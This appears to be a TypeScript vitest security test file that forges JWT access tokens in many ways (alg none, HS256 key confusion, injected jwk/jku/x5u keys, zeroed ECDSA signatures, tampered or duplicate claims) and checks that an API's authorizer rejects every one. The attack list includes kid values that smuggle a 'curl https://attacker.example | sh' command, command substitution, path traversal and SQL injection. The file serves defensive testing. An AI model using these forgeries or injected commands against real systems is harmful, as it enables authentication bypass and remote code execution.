/**
 * Attacks on access tokens, from RFC 8725 (JWT Best Current Practices) and
 * the attack list of ticarpi/jwt_tool: forged algorithms, forged keys,
 * forged claims, credentials of another kind, and credentials where none is
 * read. Each one runs against the Lambda authorizer, invoked as API Gateway
 * invokes it, and against every protected route of the operation table
 * through the local server. Every one is `401 unauthorized` in the error
 * shape of API.md, and its `WWW-Authenticate` tells nothing of the attack:
 * the generic challenge, but for a well-made token of ours that merely
 * expired, and for a credential where none is read (none was sent).
 *
 * Every attack starts from a fresh live session (opened straight in the
 * tables), so that an attack wrongly let through on one route (a logout,
 * say) cannot make the next one fail for another reason. The controls at the
 * top show that what the attacks start from is accepted as it is.
 */
import { generateKeyPairSync, randomBytes, randomUUID } from 'node:crypto';
import type { APIGatewayRequestAuthorizerEventV2 } from 'aws-lambda';
import { CompactEncrypt } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handler as authorizer } from '../../functions/authorizer.ts';
import { permissionsOf } from '../../functions/core/infra/permissions.ts';
import { operations, routeKey, type Operation } from '../../functions/routes.ts';
import type { LocalEnvironment } from '../../local/environment.ts';
import { FakeClock } from '../fixtures/clock.ts';
import { openDirectSession } from '../fixtures/direct-sessions.ts';
import { bearer, challenge, expectError, startSessionServer } from '../fixtures/e2e.ts';
import { base64url, compactJws, part, serverKeyOf, signers, splitJws, type ServerKey } from '../fixtures/forgery.ts';
import { call, login } from '../fixtures/local.ts';
import { codeIn, mailbox } from '../fixtures/mail.ts';
import { signWithServerKey } from '../fixtures/server-keys.ts';

const clock = new FakeClock(new Date('2026-11-23T12:00:00.000Z'));
const now = (): number => Math.floor(clock.now().getTime() / 1000);

const MANAGER = 'manager@example.com';
const CUSTOMER = 'customer@example.com';
/** What fills `{id}` in a path: no such resource, so a wrongly accepted token changes nothing. */
const DUMMY_ID = 'AAAAAAAAAAAAAAAAAAAAAA';

const protectedOperations = operations.filter((o) => o.auth === 'protected');

let server: LocalEnvironment;
let key: ServerKey;
let apiToken: string;
let resetCode: string;
let managerId: string;

beforeAll(async () => {
  server = await startSessionServer({ clock });
  key = await serverKeyOf(server);
  const manager = await login(server.url, MANAGER);
  managerId = manager.user.id;
  const created = await call(server.url, '/auth/api-tokens', {
    headers: bearer(manager.access_token),
    body: { name: 'jwt attacks', expires_in: '24h' },
  });
  if (created.status !== 201) throw new Error(`POST /auth/api-tokens: ${created.status} ${created.text}`);
  apiToken = created.body.token;
  const mail = mailbox(server);
  await mail.clear();
  const forgot = await call(server.url, '/auth/password/forgot', { body: { email: CUSTOMER } });
  if (forgot.status !== 202) throw new Error(`POST /auth/password/forgot: ${forgot.status} ${forgot.text}`);
  const [email] = await mail.to(CUSTOMER);
  if (!email) throw new Error('no reset email for the customer');
  resetCode = codeIn(email);
});

afterAll(async () => {
  await server?.close();
});

/** Keys of an attacker, who does not have ours. */
const attacker = {
  rsa: generateKeyPairSync('rsa', { modulusLength: 2048 }),
  ec: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
  ed: generateKeyPairSync('ed25519'),
};
const attackerJwk = () => ({
  ...(attacker.rsa.publicKey.export({ format: 'jwk' }) as object),
  kid: 'attacker-key',
  alg: 'RS256',
  use: 'sig',
});

/** Where a request carries its credential. */
interface Credential {
  readonly headers: Record<string, string>;
  /** The query string; never read for a credential (API.md). */
  readonly query?: Record<string, string>;
}

type Attack = readonly [name: string, forge: () => Promise<Credential>];

/** A live session's genuine access token, taken apart. */
async function genuine(email = MANAGER) {
  const session = await openDirectSession(server, email);
  return { ...session, ...splitJws(session.accessToken) };
}

/** The header our tokens carry, with `overrides`; a key set to `undefined` is left out. */
const headerWith = (overrides: Record<string, unknown> = {}) => ({ alg: 'RS256', kid: key.kid, typ: 'at+jwt', ...overrides });

/** Signed with the server's own key and RS256: only what the test changed is wrong. */
const serverSigned = (header: Record<string, unknown>, payload: unknown) =>
  compactJws(header, payload, signers.rsa('RS256', key.privateKey));

const withoutClaim = (claims: Record<string, unknown>, name: string) =>
  Object.fromEntries(Object.entries(claims).filter(([k]) => k !== name));

const inBearer = (token: string): Credential => ({ headers: bearer(token) });

/** A genuine session's claims, changed, signed with the server key (through the shared fixture). */
const claimsAttack = (name: string, change: (claims: Record<string, unknown>) => Record<string, unknown>): Attack => [
  name,
  async () => inBearer(await signWithServerKey(server, change((await genuine()).payload))),
];

/** The same bytes, spelled otherwise: the last character's unused low bits set (an RS256 signature has 4 of them). */
function withUnusedBitsSet(segment: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const unusedBits = (segment.length * 6) % 8;
  if (unusedBits === 0) throw new Error('this segment has no unused bits to set');
  const last = alphabet.indexOf(segment.at(-1) as string);
  const respelled = `${segment.slice(0, -1)}${alphabet[last | ((1 << unusedBits) - 1)]}`;
  if (respelled === segment || Buffer.from(respelled, 'base64url').compare(Buffer.from(segment, 'base64url')) !== 0)
    throw new Error('not a respelling');
  return respelled;
}

const NONE_CASINGS = ['none', 'None', 'NONE', 'nOnE'];

const attacks: readonly Attack[] = [
  // The unsecured JWS (RFC 8725 §2.1, §3.1).
  ...NONE_CASINGS.flatMap((alg): Attack[] => [
    [
      `alg: ${alg} with an empty signature`,
      async () => {
        const t = await genuine();
        return inBearer(`${part({ ...t.header, alg })}.${t.encoded.payload}.`);
      },
    ],
    [
      `alg: ${alg} with the original signature kept`,
      async () => {
        const t = await genuine();
        return inBearer(`${part({ ...t.header, alg })}.${t.encoded.payload}.${t.encoded.signature}`);
      },
    ],
  ]),

  // One token, one spelling: texts that decode to a genuine token's bytes (RFC 7515 §2, base64url without padding).
  [
    'a genuine token with = padding after its signature',
    async () => {
      const t = await genuine();
      return inBearer(`${t.encoded.header}.${t.encoded.payload}.${t.encoded.signature}==`);
    },
  ],
  [
    'a genuine token with = padding after its claims',
    async () => {
      const t = await genuine();
      return inBearer(`${t.encoded.header}.${t.encoded.payload}=.${t.encoded.signature}`);
    },
  ],
  [
    'a genuine token whose signature’s last character has its unused bits set (same bytes, other text)',
    async () => {
      const t = await genuine();
      return inBearer(`${t.encoded.header}.${t.encoded.payload}.${withUnusedBitsSet(t.encoded.signature)}`);
    },
  ],
  [
    'a genuine token spelled in base64 (+ and /) instead of base64url',
    async () => {
      const t = await genuine();
      const base64 = (segment: string) => segment.replaceAll('-', '+').replaceAll('_', '/');
      const spelled = `${t.encoded.header}.${t.encoded.payload}.${base64(t.encoded.signature)}`;
      // A signature with neither - nor _ would read the same in both alphabets; force one in.
      return inBearer(
        spelled.includes('+') || spelled.includes('/') ? spelled : `${t.encoded.header}.${t.encoded.payload}.${t.encoded.signature}+`,
      );
    },
  ],

  // Signatures that do not match.
  [
    'a genuine token with its signature removed (empty signature)',
    async () => {
      const t = await genuine();
      return inBearer(`${t.encoded.header}.${t.encoded.payload}.`);
    },
  ],
  [
    'a genuine token with one byte of its signature flipped',
    async () => {
      const t = await genuine();
      const signature = Buffer.from(t.signature);
      signature[0] = (signature[0] as number) ^ 0x01;
      return inBearer(`${t.encoded.header}.${t.encoded.payload}.${base64url(signature)}`);
    },
  ],
  [
    'a CUSTOMER token whose payload says role MANAGER, with the original signature',
    async () => {
      const t = await genuine(CUSTOMER);
      const payload = { ...t.payload, role: 'MANAGER', permissions: [...permissionsOf('MANAGER')] };
      return inBearer(`${t.encoded.header}.${part(payload)}.${t.encoded.signature}`);
    },
  ],
  [
    'a token whose payload names another tenant, with the original signature',
    async () => {
      const t = await genuine();
      return inBearer(`${t.encoded.header}.${part({ ...t.payload, tenant_id: 'demo-2' })}.${t.encoded.signature}`);
    },
  ],

  // RS256 → HS256 key confusion (RFC 8725 §2.1, §3.1): the public key as an HMAC secret.
  ...(
    [
      ['an empty secret', () => ''],
      ['the server’s public key as SPKI PEM', () => key.publicKey.export({ type: 'spki', format: 'pem' }).toString()],
      ['the server’s public key as PKCS#1 PEM', () => key.publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()],
      ['the JWK’s n (its base64url text)', () => key.publicJwk.n],
      ['the JWK’s n (its bytes)', () => Buffer.from(key.publicJwk.n, 'base64url')],
    ] as const
  ).map(
    ([secretName, secret]): Attack => [
      `HS256 signed with ${secretName} as the secret`,
      async () => inBearer(compactJws(headerWith({ alg: 'HS256' }), (await genuine()).payload, signers.hmac('HS256', secret()))),
    ],
  ),

  // Algorithms outside the allow-list (RS256 only), with a good signature for the algorithm named.
  ...(['RS384', 'RS512'] as const).map(
    (alg): Attack => [
      `${alg}, signed with the server’s own key`,
      async () => inBearer(compactJws(headerWith({ alg }), (await genuine()).payload, signers.rsa(alg, key.privateKey))),
    ],
  ),
  [
    'PS256, signed with the server’s own key',
    async () => inBearer(compactJws(headerWith({ alg: 'PS256' }), (await genuine()).payload, signers.rsaPss('PS256', key.privateKey))),
  ],
  [
    'ES256 with a fresh key under the server’s kid',
    async () =>
      inBearer(compactJws(headerWith({ alg: 'ES256' }), (await genuine()).payload, signers.ecdsa('ES256', attacker.ec.privateKey))),
  ],
  [
    'EdDSA with a fresh key under the server’s kid',
    async () => inBearer(compactJws(headerWith({ alg: 'EdDSA' }), (await genuine()).payload, signers.eddsa(attacker.ed.privateKey))),
  ],
  [
    'alg written rs256 (lower case) with a good RS256 signature',
    async () => inBearer(serverSigned(headerWith({ alg: 'rs256' }), (await genuine()).payload)),
  ],

  // Keys that the token itself brings along (jwt_tool: -X i, -X s).
  [
    'the attacker’s key injected in a jwk header, signed with it',
    async () =>
      inBearer(
        compactJws(
          { alg: 'RS256', typ: 'at+jwt', jwk: attackerJwk() },
          (await genuine()).payload,
          signers.rsa('RS256', attacker.rsa.privateKey),
        ),
      ),
  ],
  [
    'the attacker’s key injected in a jwk header under the server’s kid, signed with it',
    async () =>
      inBearer(compactJws(headerWith({ jwk: attackerJwk() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
  ],
  [
    'a jku header naming the attacker’s JWKS URL, signed with the attacker’s key',
    async () =>
      inBearer(
        compactJws(
          headerWith({ kid: 'attacker-key', jku: 'https://attacker.example/.well-known/jwks.json' }),
          (await genuine()).payload,
          signers.rsa('RS256', attacker.rsa.privateKey),
        ),
      ),
  ],
  [
    'a jku header naming the server’s own JWKS URL, signed with the attacker’s key',
    async () =>
      inBearer(
        compactJws(
          headerWith({ jku: `${server.url}/.well-known/jwks.json` }),
          (await genuine()).payload,
          signers.rsa('RS256', attacker.rsa.privateKey),
        ),
      ),
  ],
  [
    'an x5u header naming the attacker’s certificate URL, signed with the attacker’s key',
    async () =>
      inBearer(
        compactJws(
          headerWith({ kid: 'attacker-key', x5u: 'https://attacker.example/cert.pem' }),
          (await genuine()).payload,
          signers.rsa('RS256', attacker.rsa.privateKey),
        ),
      ),
  ],

  // kid (RFC 8725 §3.10: it names a key, it is not a path or a query).
  ['a blank kid, signed with the server’s key', async () => inBearer(serverSigned(headerWith({ kid: '' }), (await genuine()).payload))],
  ['no kid, signed with the server’s key', async () => inBearer(serverSigned(headerWith({ kid: undefined }), (await genuine()).payload))],
  [
    'a kid that is not a string (an array holding the server’s kid), signed with the server’s key',
    async () => inBearer(serverSigned(headerWith({ kid: [key.kid] }), (await genuine()).payload)),
  ],
  [
    'kid ../../dev/null (path traversal) with HS256 and an empty secret',
    async () =>
      inBearer(compactJws(headerWith({ alg: 'HS256', kid: '../../dev/null' }), (await genuine()).payload, signers.hmac('HS256', ''))),
  ],
  [
    'kid /proc/self/environ (path traversal) with HS256 and an empty secret',
    async () =>
      inBearer(compactJws(headerWith({ alg: 'HS256', kid: '/proc/self/environ' }), (await genuine()).payload, signers.hmac('HS256', ''))),
  ],
  [
    "kid ' UNION SELECT 'attacker-secret';-- (SQL injection) with HS256 and that secret",
    async () =>
      inBearer(
        compactJws(
          headerWith({ alg: 'HS256', kid: "' UNION SELECT 'attacker-secret';--" }),
          (await genuine()).payload,
          signers.hmac('HS256', 'attacker-secret'),
        ),
      ),
  ],
  [
    "kid x' OR '1'='1 (SQL injection), signed with the attacker’s key",
    async () =>
      inBearer(compactJws(headerWith({ kid: "x' OR '1'='1" }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
  ],
  [
    'kid key.pem; curl https://attacker.example | sh (command injection), signed with the attacker’s key',
    async () =>
      inBearer(
        compactJws(
          headerWith({ kid: 'key.pem; curl https://attacker.example | sh' }),
          (await genuine()).payload,
          signers.rsa('RS256', attacker.rsa.privateKey),
        ),
      ),
  ],
  [
    'kid $(id)`id` (command substitution), signed with the attacker’s key',
    async () =>
      inBearer(compactJws(headerWith({ kid: '$(id)`id`' }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
  ],
  [
    'an unknown kid, signed with the attacker’s key',
    async () =>
      inBearer(compactJws(headerWith({ kid: randomUUID() }), (await genuine()).payload, signers.rsa('RS256', attacker.rsa.privateKey))),
  ],
  [
    'an unknown kid, signed with the server’s key',
    async () => inBearer(serverSigned(headerWith({ kid: randomUUID() }), (await genuine()).payload)),
  ],

  // ECDSA "psychic signatures" (CVE-2022-21449): r = s = 0 verifies anything in a broken verifier.
  [
    'ES256 with r = s = 0 (psychic signature, raw form)',
    async () => inBearer(compactJws(headerWith({ alg: 'ES256' }), (await genuine()).payload, new Uint8Array(64))),
  ],
  [
    'ES256 with r = s = 0 (psychic signature, DER form)',
    async () => inBearer(compactJws(headerWith({ alg: 'ES256' }), (await genuine()).payload, Buffer.from('3006020100020100', 'hex'))),
  ],

  // Time (RFC 7519 §4.1.4, §4.1.5; API.md: at most 5 s of clock skew).
  claimsAttack('a token expired 6 s ago (beyond the 5 s of skew)', (c) => ({ ...c, exp: now() - 6 })),
  claimsAttack('a token expired an hour ago', (c) => ({ ...c, iat: now() - 4500, exp: now() - 3600 })),
  claimsAttack('a token with nbf 6 s ahead (beyond the skew)', (c) => ({ ...c, nbf: now() + 6 })),
  claimsAttack('a token with nbf an hour ahead', (c) => ({ ...c, nbf: now() + 3600 })),
  // jose checks `iat` only when `maxTokenAge` is set, so it takes a token issued in the future as it is.
  // A token issued an hour from now was not issued by this API: its issuer's clock would be off by far
  // more than the 5 s of skew API.md allows, and its exp would run past ACCESS_TOKEN_TTL from now.
  claimsAttack('a token issued an hour from now (iat in the future)', (c) => ({ ...c, iat: now() + 3600, exp: now() + 3600 + 900 })),
  claimsAttack('a token without exp', (c) => withoutClaim(c, 'exp')),
  claimsAttack('a token without iat', (c) => withoutClaim(c, 'iat')),
  claimsAttack('a token whose exp is a string', (c) => ({ ...c, exp: String(now() + 900) })),

  // Who issued it, for whom, of what type (RFC 8725 §3.8, §3.9, §3.11).
  claimsAttack('a token without sub', (c) => withoutClaim(c, 'sub')),
  claimsAttack('a token from another issuer', (c) => ({ ...c, iss: 'https://attacker.example' })),
  claimsAttack('a token without iss', (c) => withoutClaim(c, 'iss')),
  claimsAttack('a token for another audience', (c) => ({ ...c, aud: 'another-api' })),
  claimsAttack('a token for a list of other audiences', (c) => ({ ...c, aud: ['another-api', 'yet-another-api'] })),
  claimsAttack('a token without aud', (c) => withoutClaim(c, 'aud')),
  ['a token of typ JWT', async () => inBearer(await signWithServerKey(server, (await genuine()).payload, { typ: 'JWT' }))],
  ['a token without typ', async () => inBearer(serverSigned(headerWith({ typ: undefined }), (await genuine()).payload))],
  [
    'a token with a crit header parameter the verifier does not know (RFC 7515 §4.1.11)',
    async () =>
      inBearer(serverSigned(headerWith({ crit: ['urn:example:policy'], 'urn:example:policy': 'strict' }), (await genuine()).payload)),
  ],

  // Credentials of another kind where an access token is expected.
  ['a refresh token in Authorization: Bearer', async () => inBearer((await genuine()).refreshToken)],
  ['a refresh token in X-Access-Token', async () => ({ headers: { 'x-access-token': (await genuine()).refreshToken } })],
  ['a refresh token in X-Auth-Token', async () => ({ headers: { 'x-auth-token': (await genuine()).refreshToken } })],
  ['an API token in Authorization: Bearer (only X-Auth-Token may carry one)', async () => inBearer(apiToken)],
  ['an API token in X-Access-Token (only X-Auth-Token may carry one)', async () => ({ headers: { 'x-access-token': apiToken } })],
  ['a password reset code in Authorization: Bearer', async () => inBearer(resetCode)],
  ['a password reset code in X-Auth-Token', async () => ({ headers: { 'x-auth-token': resetCode } })],

  // JWE instead of JWS (RFC 8725 §3.12: a verifier must not take one for the other).
  [
    'a 5-part JWE-looking token under the server’s kid',
    async () => {
      const header = part({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: key.kid, typ: 'at+jwt' });
      const random = (bytes: number) => base64url(randomBytes(bytes));
      return inBearer(`${header}.${random(256)}.${random(12)}.${random(300)}.${random(16)}`);
    },
  ],
  [
    'a JWE of genuine claims, encrypted to the server’s public key',
    async () => {
      const claims = new TextEncoder().encode(JSON.stringify((await genuine()).payload));
      const jwe = await new CompactEncrypt(claims)
        .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: key.kid, typ: 'at+jwt' })
        .encrypt(key.publicKey);
      return inBearer(jwe);
    },
  ],

  // Duplicate claim names, in a payload written by hand and signed with the server's key.
  //
  // RFC 7519 §4 lets a JWT parser either reject duplicate claim names or keep the lexically last
  // one, and RFC 8259 §4 warns that parsers differ: some keep the last, some the first, some fail.
  // Services behind this API verify the same token with their own libraries (API.md: "enough for
  // API Gateway JWT authorizers and standard JWT libraries"), so a token with two `role` or two
  // `sub` members can mean one principal here and another there, whichever order they come in.
  // "Last wins" only moves the problem downstream; refusing the token is the one reading on which
  // every party agrees, and this API never issues such a token, so nothing legitimate is lost.
  // Hence: refused, 401, in either order, not merely "not elevated here".
  [
    'duplicate role claims (CUSTOMER, then MANAGER) on a CUSTOMER session',
    async () => {
      const t = await genuine(CUSTOMER);
      return inBearer(serverSigned(t.header, `${JSON.stringify(t.payload).slice(0, -1)},"role":"MANAGER"}`));
    },
  ],
  [
    'duplicate role claims (MANAGER, then CUSTOMER) on a CUSTOMER session',
    async () => {
      const t = await genuine(CUSTOMER);
      return inBearer(serverSigned(t.header, `{"role":"MANAGER",${JSON.stringify(t.payload).slice(1)}`));
    },
  ],
  [
    'duplicate sub claims (the MANAGER’s id, then the session owner’s) on a CUSTOMER session',
    async () => {
      const t = await genuine(CUSTOMER);
      return inBearer(serverSigned(t.header, `{"sub":${JSON.stringify(managerId)},${JSON.stringify(t.payload).slice(1)}`));
    },
  ],

  // Size: far beyond any token we issue, well signed.
  claimsAttack('a 20 KB token, well signed', (c) => ({ ...c, pad: 'x'.repeat(15 * 1024) })),

  // A credential in the query string never counts (API.md).
  [
    'a genuine token only in the query string (?access_token=)',
    async () => ({ headers: {}, query: { access_token: (await genuine()).accessToken } }),
  ],
  ['a genuine token only in the query string (?token=)', async () => ({ headers: {}, query: { token: (await genuine()).accessToken } })],
];

/** The only attacks the answer may tell apart from the rest: a token of ours that merely expired, and no credential read. */
const EXPIRED = new Set(['a token expired 6 s ago (beyond the 5 s of skew)', 'a token expired an hour ago']);
const reasonOf = (attack: string): 'missing' | 'expired' | 'invalid' =>
  EXPIRED.has(attack) ? 'expired' : attack.includes('only in the query string') ? 'missing' : 'invalid';
const challengeOf = { missing: challenge.none, expired: challenge.expired, invalid: challenge.invalid } as const;

const pathOf = (operation: Operation, query: Record<string, string> = {}): string => {
  const path = operation.path.replace(/\{\w+\}/g, DUMMY_ID);
  const search = new URLSearchParams(query).toString();
  return search ? `${path}?${search}` : path;
};

const request = (operation: Operation, credential: Credential) =>
  call(server.url, pathOf(operation, credential.query), { method: operation.method, headers: credential.headers });

/** The event API Gateway (HTTP API, payload 2.0) passes a REQUEST authorizer: header names in lower case. */
function authorizerEvent(operation: Operation, credential: Credential): APIGatewayRequestAuthorizerEventV2 {
  const host = new URL(server.url).host;
  const path = pathOf(operation);
  const query = credential.query ?? {};
  const time = clock.now();
  return {
    version: '2.0',
    type: 'REQUEST',
    routeArn: `arn:aws:execute-api:local:000000000000:local/$default/${operation.method}${path}`,
    identitySource: [],
    routeKey: routeKey(operation),
    rawPath: path,
    rawQueryString: new URLSearchParams(query).toString(),
    cookies: [],
    headers: {
      host,
      'x-forwarded-proto': 'http',
      'user-agent': 'jwt-attacks',
      ...Object.fromEntries(Object.entries(credential.headers).map(([name, value]) => [name.toLowerCase(), value])),
    },
    queryStringParameters: query,
    requestContext: {
      accountId: '000000000000',
      apiId: 'local',
      domainName: host,
      domainPrefix: host.split('.')[0] as string,
      http: { method: operation.method, path, protocol: 'HTTP/1.1', sourceIp: '127.0.0.1', userAgent: 'jwt-attacks' },
      requestId: randomUUID(),
      routeKey: routeKey(operation),
      stage: '$default',
      time: time.toUTCString(),
      timeEpoch: time.getTime(),
    },
    pathParameters: operation.path.includes('{') ? { id: DUMMY_ID } : {},
    stageVariables: {},
  };
}

/** The authorizer's answer for each protected route, in the order of the operation table. */
const authorizeEverywhere = (credential: Credential) =>
  Promise.all(protectedOperations.map((operation) => authorizer(authorizerEvent(operation, credential))));

const UNAUTHORIZED = { error: 'unauthorized', message: expect.any(String) };

describe('controls: what the attacks start from is accepted', () => {
  it('a genuine access token of a fresh session answers GET /auth/me with the session’s user', async () => {
    // Prepare
    const t = await genuine(CUSTOMER);

    // Act
    const answer = await call(server.url, '/auth/me', { headers: bearer(t.accessToken) });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ id: t.userId, email: CUSTOMER, role: 'CUSTOMER', tenant_id: 'demo' });
  });

  it('the same header and payload signed again with the hand-made RS256 signer are accepted', async () => {
    // Prepare
    const t = await genuine();
    const token = serverSigned(t.header, JSON.stringify(t.payload));

    // Act
    const answer = await call(server.url, '/auth/me', { headers: bearer(token) });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ id: t.userId, email: MANAGER, role: 'MANAGER' });
  });

  it('the same claims signed again through server-keys.ts are accepted', async () => {
    // Prepare
    const t = await genuine();

    // Act
    const answer = await call(server.url, '/auth/me', { headers: bearer(await signWithServerKey(server, t.payload)) });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ id: t.userId, email: MANAGER });
  });

  it('a token expired 4 s ago (within the 5 s of skew) is still accepted', async () => {
    // Prepare
    const t = await genuine();

    // Act
    const answer = await call(server.url, '/auth/me', {
      headers: bearer(await signWithServerKey(server, { ...t.payload, exp: now() - 4 })),
    });

    // Assess
    expect(answer.status).toBe(200);
  });

  it('the API token works in X-Auth-Token', async () => {
    // Act
    const answer = await call(server.url, '/auth/me', { headers: { 'x-auth-token': apiToken } });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ id: managerId, email: MANAGER });
  });

  it('the authorizer allows a genuine MANAGER token on every protected route', async () => {
    // Prepare
    const t = await genuine();

    // Act
    const decisions = await authorizeEverywhere(inBearer(t.accessToken));

    // Assess
    expect(decisions).toEqual(
      protectedOperations.map(() => ({
        isAuthorized: true,
        context: {
          decision: 'allow',
          userId: t.userId,
          role: 'MANAGER',
          tenantId: 'demo',
          sessionId: t.sessionId,
          credential: 'access_token',
        },
      })),
    );
  });

  it.each(protectedOperations.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))(
    '%s lets a genuine MANAGER token through the authorizer',
    async (_, operation) => {
      // Prepare
      const t = await genuine();

      // Act
      const answer = await request(operation, inBearer(t.accessToken));

      // Assess
      expect(answer.status, answer.text).toBeLessThan(500);
      expect(answer.body?.error, answer.text).not.toBe('unauthorized');
    },
  );
});

describe(`${attacks.length} attacks on access tokens`, () => {
  it('are each named once', () => {
    const names = attacks.map(([name]) => name);
    expect(new Set(names).size).toBe(names.length);
  });

  describe('the Lambda authorizer, invoked as API Gateway invokes it', () => {
    it.each(attacks)(`decides unauthorized on all ${protectedOperations.length} protected routes for %s`, async (name, forge) => {
      // Prepare
      const credential = await forge();

      // Act
      const decisions = await authorizeEverywhere(credential);

      // Assess
      const context = { decision: 'unauthorized', reason: reasonOf(name) };
      expect(decisions).toEqual(protectedOperations.map(() => ({ isAuthorized: true, context })));
    });
  });

  describe.each(protectedOperations.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))(
    '%s through the local server',
    (_, operation) => {
      it.each(attacks)('answers 401 unauthorized to %s', async (name, forge) => {
        // Prepare
        const credential = await forge();

        // Act
        const answer = await request(operation, credential);

        // Assess
        expectError(answer, 401, 'unauthorized');
        expect(answer.body).toEqual(UNAUTHORIZED);
        expect(answer.headers.get('www-authenticate')).toBe(challengeOf[reasonOf(name)]);
      });
    },
  );
});
